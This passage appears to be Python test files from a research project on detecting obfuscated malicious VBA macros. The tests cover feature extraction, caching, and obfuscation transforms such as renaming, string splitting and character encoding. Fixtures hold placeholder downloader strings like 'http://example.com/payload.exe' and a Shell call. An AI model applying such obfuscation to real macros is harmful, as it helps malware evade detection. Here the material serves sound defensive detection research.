            st.tuples(st.integers(0, 1), st.integers(0, 1)), min_size=1, max_size=200
        )
    )
    def test_metrics_bounded(self, pairs):
        y_true = np.array([p[0] for p in pairs])
        y_pred = np.array([p[1] for p in pairs])
        for metric in (accuracy_score, precision_score, recall_score, f2_score):
            value = metric(y_true, y_pred)
            assert 0.0 <= value <= 1.0

    @given(
        st.lists(
            st.tuples(st.integers(0, 1), st.integers(0, 1)), min_size=1, max_size=200
        ),
        st.floats(min_value=0.1, max_value=10.0),
    )
    def test_fbeta_between_precision_and_recall(self, pairs, beta):
        y_true = np.array([p[0] for p in pairs])
        y_pred = np.array([p[1] for p in pairs])
        p = precision_score(y_true, y_pred)
        r = recall_score(y_true, y_pred)
        f = fbeta_score(y_true, y_pred, beta=beta)
        low, high = min(p, r), max(p, r)
        assert low - 1e-12 <= f <= high + 1e-12

    @given(st.integers(min_value=2, max_value=300), st.integers(0, 2**31))
    def test_auc_antisymmetry(self, n, seed):
        """Negating scores must flip AUC to 1 − AUC."""
        rng = np.random.default_rng(seed)
        y = rng.integers(0, 2, size=n)
        if y.min() == y.max():
            y[0] = 1 - y[0]
        scores = rng.random(n)
        forward = roc_auc_score(y, scores)
        backward = roc_auc_score(y, -scores)
        assert forward + backward == pytest.approx(1.0, abs=1e-9)

    @given(st.integers(min_value=2, max_value=200), st.integers(0, 2**31))
    def test_tp_fp_fn_tn_partition(self, n, seed):
        rng = np.random.default_rng(seed)
        y_true = rng.integers(0, 2, size=n)
        y_pred = rng.integers(0, 2, size=n)
        tp, fp, fn, tn = confusion_matrix_binary(y_true, y_pred)
        assert tp + fp + fn + tn == n
