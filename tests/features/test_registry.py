"""Tests for the pluggable feature-set registry."""

import numpy as np
import pytest

from repro.features.jfeatures import J_FEATURE_NAMES
from repro.features.matrix import extract_features, feature_names
from repro.features.registry import (
    get_feature_set,
    register_feature_set,
    registered_feature_sets,
    unregister_feature_set,
)
from repro.features.vfeatures import V_FEATURE_NAMES

SIMPLE = 'Sub Hello()\n    MsgBox "hi"\nEnd Sub\n'


class TestBuiltins:
    def test_v_round_trip(self):
        fs = get_feature_set("V")
        assert fs.name == "V"
        assert fs.names == V_FEATURE_NAMES
        assert fs.width == 15

    def test_j_round_trip(self):
        fs = get_feature_set("J")
        assert fs.names == J_FEATURE_NAMES
        assert fs.width == 20

    def test_builtins_registered_first(self):
        assert registered_feature_sets()[:2] == ("V", "J")

    def test_matrix_wrappers_use_registry(self):
        assert feature_names("V") == V_FEATURE_NAMES
        assert extract_features([SIMPLE], "J").shape == (1, 20)

    def test_unknown_name_raises(self):
        with pytest.raises(ValueError):
            get_feature_set("K")
        with pytest.raises(ValueError):
            unregister_feature_set("K")


class TestCustomSets:
    def test_register_extract_unregister(self):
        register_feature_set(
            "len-only",
            lambda analysis: np.array([float(len(analysis.source))]),
            ("source_len",),
        )
        try:
            assert "len-only" in registered_feature_sets()
            matrix = extract_features([SIMPLE, SIMPLE * 2], "len-only")
            assert matrix.shape == (2, 1)
            assert matrix[0, 0] == len(SIMPLE)
            assert matrix[1, 0] == 2 * len(SIMPLE)
        finally:
            unregister_feature_set("len-only")
        with pytest.raises(ValueError):
            get_feature_set("len-only")

    def test_duplicate_name_rejected_unless_replace(self):
        register_feature_set("dupe", lambda a: np.zeros(1), ("x",))
        try:
            with pytest.raises(ValueError):
                register_feature_set("dupe", lambda a: np.zeros(1), ("x",))
            replaced = register_feature_set(
                "dupe", lambda a: np.zeros(2), ("x", "y"), replace=True
            )
            assert replaced.width == 2
        finally:
            unregister_feature_set("dupe")

    def test_invalid_registrations(self):
        with pytest.raises(ValueError):
            register_feature_set("", lambda a: np.zeros(1), ("x",))
        with pytest.raises(ValueError):
            register_feature_set("empty-names", lambda a: np.zeros(0), ())

    def test_width_mismatch_detected_at_extract(self):
        register_feature_set(
            "liar", lambda analysis: np.zeros(3), ("a", "b")
        )
        try:
            with pytest.raises(ValueError):
                extract_features([SIMPLE], "liar")
        finally:
            unregister_feature_set("liar")
