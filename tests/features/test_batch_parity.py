"""Parity between per-row and column-batch feature extraction.

The vectorized hot path (``extract_matrices`` over
:class:`~repro.vba.analyzer.AnalysisSummary` batches) must be
**bit-for-bit identical** to extracting each row alone — the kernels are
row-deterministic, so a batch of one and a batch of a thousand agree
exactly.  On top of that, the batch kernels must agree (to float
round-off) with the original scalar extractors they replaced; those
scalar formulas are embedded below as the reference oracle.
"""

import random
import re

import numpy as np
import pytest

from repro.corpus.benign import generate_benign_module
from repro.corpus.malicious import generate_malicious_macro
from repro.features import extract_matrices, get_feature_set
from repro.features.entropy import shannon_entropy
from repro.obfuscation.pipeline import default_pipeline
from repro.vba.analyzer import analyze
from repro.vba.functions import (
    ARITHMETIC_FUNCTIONS,
    FINANCIAL_FUNCTIONS,
    RICH_FUNCTIONS,
    TEXT_FUNCTIONS,
    TYPE_CONVERSION_FUNCTIONS,
)
from repro.vba.tokens import STRING_CONCAT_OPERATORS, TokenKind

_EDGE_CASES = [
    "",
    "' a comment\n' and another comment, nothing else\n",
    "Sub A()\r\n    x = 1\r\n    y = x + 2\r\nEnd Sub\r\n",  # CRLF
    '﻿Sub B()\n    MsgBox "bom"\nEnd Sub\n',  # BOM-prefixed
    "Sub C()\n    s = " + " & ".join(f'"{c}"' for c in "payload") + "\nEnd Sub\n",
    "Sub D()\n    v = Chr(65) & Chr(66) & CStr(1.5)\nEnd Sub\n",
    "Sub E()\n    " + 'x = "' + "A" * 400 + '"' + "\nEnd Sub\n",  # long line
    "Dim rjzybhqrliy As String\n",  # unreadable identifier, no body
]


@pytest.fixture(scope="module")
def corpus():
    rng = random.Random(77)
    sources = [
        generate_benign_module(rng, target_length=rng.randint(200, 1500))
        for _ in range(4)
    ]
    sources += [generate_malicious_macro(rng, "word") for _ in range(3)]
    pipeline = default_pipeline()
    sources += [
        pipeline.run(generate_malicious_macro(rng, "word"), seed=seed).source
        for seed in range(3)
    ]
    return sources + _EDGE_CASES


class TestExactBatchParity:
    @pytest.mark.parametrize("name", ["V", "J"])
    def test_batch_matrix_equals_per_row_extraction(self, corpus, name):
        feature_set = get_feature_set(name)
        batch = extract_matrices(corpus, (name,))[name]
        rows = np.vstack(
            [feature_set.extract(analyze(source)) for source in corpus]
        )
        assert batch.shape == (len(corpus), feature_set.width)
        assert np.array_equal(batch, rows)

    @pytest.mark.parametrize("name", ["V", "J"])
    @pytest.mark.parametrize("chunk", [1, 3, 5])
    def test_batch_size_never_changes_a_row(self, corpus, name, chunk):
        feature_set = get_feature_set(name)
        summaries = [analyze(source).ensure_summary() for source in corpus]
        full = feature_set.extract_matrix(summaries)
        chunked = np.vstack(
            [
                feature_set.extract_matrix(summaries[start : start + chunk])
                for start in range(0, len(summaries), chunk)
            ]
        )
        assert np.array_equal(full, chunked)

    def test_entropy_computed_once_feeds_both_sets(self, corpus):
        """ISSUE 6 satellite: V13 and J15 are the same Shannon entropy,
        read from the shared summary — identical columns, bit-for-bit."""
        matrices = extract_matrices(corpus, ("V", "J"))
        v13 = matrices["V"][:, 12]
        j15 = matrices["J"][:, 14]
        assert np.array_equal(v13, j15)
        expected = np.array(
            [shannon_entropy(source) for source in corpus], dtype=np.float64
        )
        # Scalar loop vs vectorized summation: same formula, last-ulp drift.
        assert np.allclose(v13, expected, rtol=1e-12, atol=0.0)

    def test_summary_is_reused_not_recomputed(self, corpus):
        analysis = analyze(corpus[0])
        summary = analysis.ensure_summary()
        assert analysis.ensure_summary() is summary


# ----------------------------------------------------------------------
# Reference oracle: the original scalar extractors, verbatim formulas.


def _mean_and_variance(lengths):
    if not lengths:
        return 0.0, 0.0
    array = np.asarray(lengths, dtype=np.float64)
    return float(array.mean()), float(array.var())


def _reference_v(analysis):
    code = analysis.code_without_comments
    v1 = float(len(code))
    v2 = float(len(analysis.comment_text))
    v3, v4 = _mean_and_variance([len(word) for word in analysis.words])
    operator_count = analysis.operator_count(STRING_CONCAT_OPERATORS)
    v5 = operator_count / v1 if v1 else 0.0
    string_chars = sum(
        len(token.text)
        for token in analysis.tokens
        if token.kind is TokenKind.STRING
    )
    v6 = string_chars / v1 if v1 else 0.0
    v7, _ = _mean_and_variance([len(s) for s in analysis.string_literals])
    v8 = analysis.called_builtin_fraction(TEXT_FUNCTIONS)
    v9 = analysis.called_builtin_fraction(ARITHMETIC_FUNCTIONS)
    v10 = analysis.called_builtin_fraction(TYPE_CONVERSION_FUNCTIONS)
    v11 = analysis.called_builtin_fraction(FINANCIAL_FUNCTIONS)
    v12 = analysis.called_builtin_fraction(RICH_FUNCTIONS)
    v13 = shannon_entropy(analysis.source)
    v14, v15 = _mean_and_variance(
        [len(name) for name in analysis.declared_identifiers]
    )
    return np.array(
        [v1, v2, v3, v4, v5, v6, v7, v8, v9, v10, v11, v12, v13, v14, v15],
        dtype=np.float64,
    )


_VOWELS = frozenset("aeiouAEIOU")
_LONG_LINE_THRESHOLD = 150


def _is_human_readable(word):
    if not word or len(word) > 15:
        return False
    letters = sum(1 for ch in word if ch.isalpha())
    if letters < len(word) * 0.5:
        return False
    if not any(ch in _VOWELS for ch in word):
        return False
    run = 0
    for ch in word:
        if ch.isalpha() and ch not in _VOWELS:
            run += 1
            if run >= 4:
                return False
        else:
            run = 0
    return True


_BODY_PATTERN = re.compile(
    r"(?:^|\n)[ \t]*(?:Public\s+|Private\s+)?(?:Sub|Function)\s+\w+"
    r".*?\n(.*?)(?:^|\n)[ \t]*End (?:Sub|Function)",
    re.DOTALL | re.IGNORECASE,
)


def _argument_lengths(analysis):
    lengths = []
    tokens = [
        t
        for t in analysis.tokens
        if t.kind
        not in (TokenKind.WHITESPACE, TokenKind.NEWLINE, TokenKind.EOF)
    ]
    for index, token in enumerate(tokens[:-1]):
        if token.kind is not TokenKind.IDENTIFIER:
            continue
        nxt = tokens[index + 1]
        if nxt.kind is not TokenKind.PUNCT or nxt.text != "(":
            continue
        depth = 0
        size = 0
        for inner in tokens[index + 1 :]:
            if inner.kind is TokenKind.PUNCT and inner.text == "(":
                depth += 1
                if depth == 1:
                    continue
            if inner.kind is TokenKind.PUNCT and inner.text == ")":
                depth -= 1
                if depth == 0:
                    break
            size += len(inner.text)
        lengths.append(size)
    return lengths


def _reference_j(analysis):
    source = analysis.source
    lines = analysis.lines
    n_lines = max(1, len(lines))
    j1 = float(len(source))
    j2 = j1 / n_lines
    j3 = float(len(lines))
    j4 = float(len(analysis.string_literals))
    words = analysis.words
    readable = sum(1 for word in words if _is_human_readable(word))
    j5 = readable / len(words) if words else 0.0
    whitespace = sum(1 for ch in source if ch in " \t\r\n")
    j6 = whitespace / j1 if j1 else 0.0
    member_calls = sum(1 for call in analysis.call_sites if call.is_member)
    j7 = member_calls / len(analysis.call_sites) if analysis.call_sites else 0.0
    string_lengths = [len(s) for s in analysis.string_literals]
    j8 = float(np.mean(string_lengths)) if string_lengths else 0.0
    argument_lengths = _argument_lengths(analysis)
    j9 = float(np.mean(argument_lengths)) if argument_lengths else 0.0
    j10 = float(len(analysis.comments))
    j11 = j10 / n_lines
    j12 = float(len(words))
    comment_text = analysis.comment_text
    words_in_comments = sum(1 for word in words if word in comment_text)
    j13 = (len(words) - words_in_comments) / len(words) if words else 0.0
    long_lines = sum(1 for line in lines if len(line) > _LONG_LINE_THRESHOLD)
    j14 = long_lines / n_lines
    j15 = shannon_entropy(source)
    string_chars = sum(
        len(token.text)
        for token in analysis.tokens
        if token.kind is TokenKind.STRING
    )
    j16 = string_chars / j1 if j1 else 0.0
    j17 = source.count("\\") / j1 if j1 else 0.0
    bodies = [m.group(1) for m in _BODY_PATTERN.finditer(source)]
    body_chars = sum(len(body) for body in bodies)
    j18 = body_chars / len(bodies) if bodies else 0.0
    j19 = body_chars / j1 if j1 else 0.0
    j20 = len(bodies) / j1 if j1 else 0.0
    return np.array(
        [
            j1, j2, j3, j4, j5, j6, j7, j8, j9, j10,
            j11, j12, j13, j14, j15, j16, j17, j18, j19, j20,
        ],
        dtype=np.float64,
    )


class TestScalarOracleParity:
    """The batch kernels agree with the original scalar formulas to
    float round-off (sums-of-squares variance vs two-pass ``np.var`` can
    differ in the last ulp; everything else is exact)."""

    def test_v_matches_scalar_reference(self, corpus):
        batch = extract_matrices(corpus, ("V",))["V"]
        reference = np.vstack([_reference_v(analyze(s)) for s in corpus])
        assert np.allclose(batch, reference, rtol=1e-9, atol=1e-12)

    def test_j_matches_scalar_reference(self, corpus):
        batch = extract_matrices(corpus, ("J",))["J"]
        reference = np.vstack([_reference_j(analyze(s)) for s in corpus])
        assert np.allclose(batch, reference, rtol=1e-9, atol=1e-12)
