"""Tests for the V and J feature extractors."""

import math
import random

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.corpus.benign import generate_benign_macro
from repro.corpus.malicious import generate_malicious_macro
from repro.features.entropy import max_entropy, shannon_entropy
from repro.features.jfeatures import J_FEATURE_NAMES, extract_j_features
from repro.features.matrix import extract_both, extract_features, feature_names
from repro.features.vfeatures import (
    V_FEATURE_GROUPS,
    V_FEATURE_NAMES,
    extract_v_features,
)
from repro.obfuscation.base import make_context
from repro.obfuscation.encode import StringEncoder
from repro.obfuscation.pipeline import default_pipeline
from repro.obfuscation.rename import RandomRenamer
from repro.obfuscation.split import StringSplitter

SIMPLE = (
    "Sub Hello()\n"
    "    'A greeting\n"
    "    Dim message As String\n"
    '    message = "hi there"\n'
    "    MsgBox message\n"
    "End Sub\n"
)


def index_of(name_prefix: str, names: tuple[str, ...]) -> int:
    for index, name in enumerate(names):
        if name.startswith(name_prefix + "_") or name == name_prefix:
            return index
    raise KeyError(name_prefix)


class TestEntropy:
    def test_empty_is_zero(self):
        assert shannon_entropy("") == 0.0

    def test_single_symbol_is_zero(self):
        assert shannon_entropy("aaaa") == 0.0

    def test_uniform_two_symbols_is_one_bit(self):
        assert shannon_entropy("abab") == pytest.approx(1.0)

    def test_hand_computed(self):
        # "aab": p(a)=2/3, p(b)=1/3.
        expected = -(2 / 3) * math.log2(2 / 3) - (1 / 3) * math.log2(1 / 3)
        assert shannon_entropy("aab") == pytest.approx(expected)

    def test_max_entropy_bound(self):
        with pytest.raises(ValueError):
            max_entropy(0)
        assert max_entropy(256) == 8.0

    @given(st.text(max_size=500))
    def test_bounded_by_alphabet(self, text):
        value = shannon_entropy(text)
        assert value >= 0.0
        if text:
            assert value <= math.log2(len(set(text))) + 1e-9


class TestVFeatureValues:
    def test_vector_shape_and_names(self):
        vector = extract_v_features(SIMPLE)
        assert vector.shape == (len(V_FEATURE_NAMES),)
        assert len(V_FEATURE_NAMES) == 15

    def test_v1_excludes_comments(self):
        vector = extract_v_features(SIMPLE)
        v1 = vector[index_of("V1_code_chars", V_FEATURE_NAMES)]
        v2 = vector[index_of("V2_comment_chars", V_FEATURE_NAMES)]
        assert v1 + v2 == len(SIMPLE)
        assert v2 == len("'A greeting")

    def test_v6_string_share(self):
        vector = extract_v_features(SIMPLE)
        v6 = vector[index_of("V6_string_char_pct", V_FEATURE_NAMES)]
        # '"hi there"' is 10 chars of the comment-free code.
        v1 = vector[index_of("V1_code_chars", V_FEATURE_NAMES)]
        assert v6 == pytest.approx(10 / v1)

    def test_v7_string_length(self):
        vector = extract_v_features(SIMPLE)
        assert vector[index_of("V7_string_len_mean", V_FEATURE_NAMES)] == len(
            "hi there"
        )

    def test_function_percentages_sum_below_one(self):
        source = (
            "Sub T()\n"
            "    a = Chr(65)\n"
            "    b = Abs(-2)\n"
            "    c = CStr(5)\n"
            "    d = Shell(\"x\", 1)\n"
            "End Sub\n"
        )
        vector = extract_v_features(source)
        fractions = vector[7:12]
        assert np.all(fractions >= 0)
        assert fractions.sum() <= 1.0 + 1e-9
        assert vector[index_of("V8_text_fn_pct", V_FEATURE_NAMES)] == 0.25
        assert vector[index_of("V12_rich_fn_pct", V_FEATURE_NAMES)] == 0.25

    def test_empty_source(self):
        vector = extract_v_features("")
        assert np.all(np.isfinite(vector))
        assert vector[0] == 0.0

    def test_feature_groups_cover_all_indices(self):
        covered = sorted(
            index for group in V_FEATURE_GROUPS.values() for index in group
        )
        assert covered == list(range(15))


class TestVFeatureDiscrimination:
    """Each obfuscation class must move its targeted features."""

    def test_o1_rename_raises_identifier_stats(self):
        """On average, random renaming lengthens identifiers (single draws
        can go either way since both name distributions overlap)."""
        idx_len = index_of("V14_ident_len_mean", V_FEATURE_NAMES)
        idx_entropy = index_of("V13_entropy", V_FEATURE_NAMES)
        plain_values, renamed_values = [], []
        changed_entropy = 0
        for seed in range(12):
            plain = generate_benign_macro(random.Random(seed))
            renamed = RandomRenamer().apply(plain, make_context(seed))
            v_plain = extract_v_features(plain)
            v_renamed = extract_v_features(renamed)
            plain_values.append(v_plain[idx_len])
            renamed_values.append(v_renamed[idx_len])
            changed_entropy += v_renamed[idx_entropy] != v_plain[idx_entropy]
        assert np.mean(renamed_values) > np.mean(plain_values)
        assert changed_entropy >= 10

    def test_o2_split_raises_string_operator_frequency(self):
        plain = (
            "Sub T()\n"
            '    x = "the quick brown fox jumps over the lazy dog"\n'
            "End Sub\n"
        )
        split = StringSplitter(chunk_min=1, chunk_max=2).apply(
            plain, make_context(2)
        )
        idx = index_of("V5_string_op_freq", V_FEATURE_NAMES)
        assert extract_v_features(split)[idx] > extract_v_features(plain)[idx]

    def test_o3_encoding_raises_function_call_fractions(self):
        plain = (
            "Sub T()\n"
            '    x = "http://example.com/payload.exe"\n'
            "End Sub\n"
        )
        encoded = StringEncoder(strategies=("chr_concat",)).apply(
            plain, make_context(3)
        )
        idx = index_of("V8_text_fn_pct", V_FEATURE_NAMES)
        assert extract_v_features(encoded)[idx] > extract_v_features(plain)[idx]

    def test_full_pipeline_separates_in_feature_space(self):
        """Mean separation: obfuscated vectors differ from plain ones."""
        rng = random.Random(5)
        plain_sources = [generate_benign_macro(rng) for _ in range(15)]
        obfuscated_sources = [
            default_pipeline().run(generate_malicious_macro(rng, "word"), seed=i).source
            for i in range(15)
        ]
        plain_matrix = extract_features(plain_sources, "V")
        obfuscated_matrix = extract_features(obfuscated_sources, "V")
        idx14 = index_of("V14_ident_len_mean", V_FEATURE_NAMES)
        assert obfuscated_matrix[:, idx14].mean() > plain_matrix[:, idx14].mean()


class TestJFeatures:
    def test_vector_shape(self):
        vector = extract_j_features(SIMPLE)
        assert vector.shape == (len(J_FEATURE_NAMES),)
        assert len(J_FEATURE_NAMES) == 20

    def test_j1_j3_basic_counts(self):
        vector = extract_j_features(SIMPLE)
        assert vector[index_of("J1_length_chars", J_FEATURE_NAMES)] == len(SIMPLE)
        assert vector[index_of("J3_line_count", J_FEATURE_NAMES)] == 6

    def test_j10_comment_count(self):
        vector = extract_j_features(SIMPLE)
        assert vector[index_of("J10_comment_count", J_FEATURE_NAMES)] == 1

    def test_j5_readability_drops_after_rename(self):
        plain = generate_benign_macro(random.Random(2))
        renamed = RandomRenamer().apply(plain, make_context(4))
        idx = index_of("J5_human_readable_pct", J_FEATURE_NAMES)
        assert extract_j_features(renamed)[idx] < extract_j_features(plain)[idx]

    def test_j14_long_lines(self):
        source = "Sub A()\n    x = 1\nEnd Sub\n" + "y = \"" + "a" * 200 + "\"\n"
        vector = extract_j_features(source)
        assert vector[index_of("J14_long_line_pct", J_FEATURE_NAMES)] > 0

    def test_j17_backslashes(self):
        source = 'Sub A()\n    p = "C:\\temp\\x"\nEnd Sub\n'
        vector = extract_j_features(source)
        assert vector[index_of("J17_backslash_pct", J_FEATURE_NAMES)] == pytest.approx(
            2 / len(source)
        )

    def test_function_body_features(self):
        vector = extract_j_features(SIMPLE)
        j18 = vector[index_of("J18_chars_per_function_body", J_FEATURE_NAMES)]
        j20 = vector[index_of("J20_function_defs_per_char", J_FEATURE_NAMES)]
        assert j18 > 0
        assert j20 == pytest.approx(1 / len(SIMPLE))

    def test_empty_source(self):
        vector = extract_j_features("")
        assert np.all(np.isfinite(vector))


class TestMatrix:
    def test_extract_features_matrix_shape(self):
        sources = [SIMPLE, SIMPLE + "\n'x\n"]
        assert extract_features(sources, "V").shape == (2, 15)
        assert extract_features(sources, "J").shape == (2, 20)

    def test_extract_both_consistent(self):
        sources = [generate_benign_macro(random.Random(i)) for i in range(4)]
        v_matrix, j_matrix = extract_both(sources)
        assert np.array_equal(v_matrix, extract_features(sources, "V"))
        assert np.array_equal(j_matrix, extract_features(sources, "J"))

    def test_empty_input(self):
        assert extract_features([], "V").shape == (0, 15)

    def test_unknown_feature_set(self):
        with pytest.raises(ValueError):
            extract_features([SIMPLE], "K")
        with pytest.raises(ValueError):
            feature_names("K")


class TestPropertyBased:
    @settings(max_examples=40, deadline=None)
    @given(
        st.text(
            alphabet=st.characters(min_codepoint=9, max_codepoint=126), max_size=600
        )
    )
    def test_extractors_total_on_arbitrary_text(self, source):
        """Feature extraction never crashes and always returns finite values."""
        v_vector = extract_v_features(source)
        j_vector = extract_j_features(source)
        assert np.all(np.isfinite(v_vector))
        assert np.all(np.isfinite(j_vector))

    @settings(max_examples=20, deadline=None)
    @given(st.integers(min_value=0, max_value=2**31))
    def test_percentage_features_bounded(self, seed):
        source = generate_malicious_macro(random.Random(seed), "word")
        v_vector = extract_v_features(source)
        # V6 and V8-V12 are fractions.
        for idx in (5, 7, 8, 9, 10, 11):
            assert 0.0 <= v_vector[idx] <= 1.0 + 1e-9
