"""The normalized-source feature-row cache (ISSUE 6 cache layer).

Covers the normalization contract (key-only: BOM / CRLF / CR variants key
identically but features stay raw-source), the LRU mechanics, the
pickle-as-empty worker snapshot behavior, and the engine wiring (variant
re-submissions skip analysis + featurization and serve the first-seen
row — deliberate fleet-dedup semantics).
"""

import pickle
import random

import numpy as np
import pytest

from repro.corpus.benign import generate_benign_module
from repro.engine import AnalysisEngine
from repro.features import (
    FeatureRowCache,
    normalize_source,
    normalized_digest,
)

LF_SOURCE = 'Sub Greet()\n    MsgBox "hi there"\nEnd Sub\n'
CRLF_SOURCE = LF_SOURCE.replace("\n", "\r\n")
BOM_SOURCE = "﻿" + LF_SOURCE


class TestNormalization:
    def test_variants_share_one_key(self):
        digest = normalized_digest(LF_SOURCE)
        assert normalized_digest(CRLF_SOURCE) == digest
        assert normalized_digest(BOM_SOURCE) == digest
        assert normalized_digest("﻿" + CRLF_SOURCE) == digest
        assert normalized_digest(LF_SOURCE.replace("\n", "\r")) == digest

    def test_different_code_keys_differently(self):
        assert normalized_digest(LF_SOURCE) != normalized_digest(
            LF_SOURCE.replace("hi", "yo")
        )

    def test_normalize_is_idempotent_and_lf_invariant(self):
        canonical = normalize_source(CRLF_SOURCE)
        assert canonical == LF_SOURCE
        assert normalize_source(canonical) == canonical
        assert normalize_source(LF_SOURCE) == LF_SOURCE

    def test_interior_bom_is_not_stripped(self):
        embedded = 'x = "﻿"\n'
        assert normalize_source(embedded) == embedded


class TestFeatureRowCache:
    def test_miss_then_hit(self):
        cache = FeatureRowCache(4)
        row = np.arange(15, dtype=np.float64)
        assert cache.get("k1", ("V",)) is None
        cache.put("k1", {"V": row})
        served = cache.get("k1", ("V",))
        assert np.array_equal(served["V"], row)
        assert cache.info() == {
            "hits": 1, "misses": 1, "evictions": 0, "size": 1,
        }

    def test_partial_sets_miss_then_merge(self):
        cache = FeatureRowCache(4)
        v_row = np.ones(15)
        j_row = np.ones(20) * 2
        cache.put("k1", {"V": v_row})
        assert cache.get("k1", ("V", "J")) is None  # J missing -> miss
        cache.put("k1", {"J": j_row})  # merges into the same entry
        served = cache.get("k1", ("V", "J"))
        assert np.array_equal(served["V"], v_row)
        assert np.array_equal(served["J"], j_row)
        assert len(cache) == 1

    def test_lru_eviction_order(self):
        cache = FeatureRowCache(2)
        cache.put("a", {"V": np.zeros(1)})
        cache.put("b", {"V": np.zeros(1)})
        cache.get("a", ("V",))  # refresh "a"
        cache.put("c", {"V": np.zeros(1)})  # evicts "b"
        assert cache.get("a", ("V",)) is not None
        assert cache.get("b", ("V",)) is None
        assert cache.info()["evictions"] == 1

    def test_zero_capacity_never_stores(self):
        cache = FeatureRowCache(0)
        cache.put("k", {"V": np.zeros(1)})
        assert len(cache) == 0

    def test_pickles_as_empty_with_capacity(self):
        cache = FeatureRowCache(8)
        cache.put("k", {"V": np.zeros(1)})
        cache.get("k", ("V",))
        clone = pickle.loads(pickle.dumps(cache))
        assert clone.capacity == 8
        assert len(clone) == 0
        assert clone.info() == {
            "hits": 0, "misses": 0, "evictions": 0, "size": 0,
        }


class TestEngineWiring:
    def test_variant_resubmission_serves_first_seen_row(self):
        engine = AnalysisEngine(feature_sets=("V", "J"))
        first = engine.run_source(LF_SOURCE)
        second = engine.run_source(CRLF_SOURCE)
        third = engine.run_source(BOM_SOURCE)
        info = engine.cache_info()
        assert info["feature_misses"] == 1
        assert info["feature_hits"] == 2
        # Dedup semantics: variants get the first-seen variant's row...
        assert np.array_equal(second.features["V"], first.features["V"])
        assert np.array_equal(third.features["J"], first.features["J"])
        # ...which is NOT what the CRLF variant computes fresh (raw-source
        # features see the \r characters).
        fresh = AnalysisEngine(feature_sets=("V", "J")).run_source(CRLF_SOURCE)
        assert not np.array_equal(fresh.features["J"], first.features["J"])

    def test_first_seen_row_is_computed_on_raw_source(self):
        # Submit the CRLF variant first: its cached row must reflect the
        # raw CRLF source, not the normalized LF view.
        engine = AnalysisEngine(feature_sets=("J",))
        crlf_first = engine.run_source(CRLF_SOURCE)
        uncached = AnalysisEngine(feature_sets=("J",)).run_source(CRLF_SOURCE)
        assert np.array_equal(crlf_first.features["J"], uncached.features["J"])
        assert crlf_first.features["J"][0] == float(len(CRLF_SOURCE))  # J1

    def test_distinct_macros_never_collide(self):
        rng = random.Random(5)
        sources = [
            generate_benign_module(rng, target_length=300) for _ in range(4)
        ]
        engine = AnalysisEngine(feature_sets=("V",))
        rows = [engine.run_source(source).features["V"] for source in sources]
        info = engine.cache_info()
        assert info["feature_misses"] == len(sources)
        assert info["feature_hits"] == 0
        baseline = AnalysisEngine(feature_sets=("V",), feature_cache_size=0)
        for source, row in zip(sources, rows):
            assert np.array_equal(
                baseline.run_source(source).features["V"], row
            )

    def test_cache_disabled_by_zero_capacity(self):
        engine = AnalysisEngine(feature_sets=("V",), feature_cache_size=0)
        engine.run_source(LF_SOURCE)
        engine.run_source(CRLF_SOURCE)
        info = engine.cache_info()
        assert info["feature_hits"] == 0
        assert info["feature_misses"] == 0
        assert engine._feature_cache is None

    def test_keep_analysis_still_hits_but_analyzes(self):
        # With keep_analysis the analyze stage may not skip tokenization,
        # but the featurize stage still serves rows from the cache.
        engine = AnalysisEngine(feature_sets=("V",), keep_analysis=True)
        first = engine.run_source(LF_SOURCE)
        second = engine.run_source(CRLF_SOURCE)
        assert first.analysis is not None
        assert second.analysis is not None
        assert engine.cache_info()["feature_hits"] == 1
        assert np.array_equal(second.features["V"], first.features["V"])

    def test_document_path_hits_for_source_variant(self):
        # A macro first seen via run_source is served from the feature
        # cache when the same (normalized) macro arrives inside a document.
        from repro.corpus.documents import build_document_bytes

        engine = AnalysisEngine(feature_sets=("V",))
        direct = engine.run_source(LF_SOURCE)
        record = engine.run(build_document_bytes([LF_SOURCE], "docm"))
        assert record.ok
        info = engine.cache_info()
        assert info["feature_hits"] >= 1
        [macro] = record.kept_macros
        assert np.array_equal(macro.features["V"], direct.features["V"])
