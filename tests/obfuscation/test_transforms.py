"""Tests for the O1–O4 obfuscation transforms.

The strongest checks run the original and the obfuscated macro in the VBA
interpreter and compare results — proving each transform is
semantics-preserving, the defining property of obfuscation.
"""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.obfuscation.base import make_context
from repro.obfuscation.encode import STRATEGIES, StringEncoder
from repro.obfuscation.logic import (
    DummyCodeInserter,
    ProcedureReorderer,
    SizePadder,
    generate_junk_procedure,
)
from repro.obfuscation.rename import RandomRenamer, rename_identifiers
from repro.obfuscation.split import DummyStringInserter, StringSplitter
from repro.vba.analyzer import analyze
from repro.vba.interpreter import Interpreter, run_function
from repro.vba.parser import parse_module

GREETING_MODULE = (
    "Function MakeGreeting(who As String) As String\n"
    "    Dim prefix As String\n"
    '    prefix = "Hello, "\n'
    '    MakeGreeting = prefix & who & "! savetofile please"\n'
    "End Function\n"
)

URL_MODULE = (
    "Function BuildTarget() As String\n"
    "    Dim url As String\n"
    "    Dim path As String\n"
    '    url = "http://example.com/payload.exe"\n'
    '    path = "C:\\\\temp\\\\update.exe"\n'
    '    BuildTarget = url & "|" & path\n'
    "End Function\n"
)


def obfuscate(transform, source: str, seed: int = 7) -> str:
    return transform.apply(source, make_context(seed))


class TestRandomRenamer:
    def test_declared_identifiers_are_renamed(self):
        out = obfuscate(RandomRenamer(), GREETING_MODULE)
        assert "MakeGreeting" not in out
        assert "prefix" not in out
        assert "who" not in out

    def test_strings_and_comments_untouched(self):
        source = GREETING_MODULE + "' prefix is a comment word\n"
        out = obfuscate(RandomRenamer(), source)
        assert '"Hello, "' in out
        assert "' prefix is a comment word" in out

    def test_member_access_not_renamed(self):
        source = (
            "Sub T()\n"
            "    Dim Value As Long\n"
            "    Value = 1\n"
            "    x = doc.Value\n"
            "End Sub\n"
        )
        out = obfuscate(RandomRenamer(), source)
        assert ".Value" in out  # member survived
        assert "Dim Value" not in out  # declaration renamed

    def test_semantics_preserved(self):
        out = obfuscate(RandomRenamer(), GREETING_MODULE)
        interp = Interpreter.from_source(out)
        name = next(iter(interp.module.procedures.values())).name
        assert interp.call(name, "World") == run_function(
            GREETING_MODULE, "MakeGreeting", "World"
        )

    def test_partial_rename_fraction(self):
        renamer = RandomRenamer(rename_fraction=0.5)
        source = "Sub A()\nEnd Sub\nSub B()\nEnd Sub\nSub C()\nEnd Sub\nSub D()\nEnd Sub\n"
        out = obfuscate(renamer, source)
        survivors = sum(1 for n in "ABCD" if f"Sub {n}(" in out)
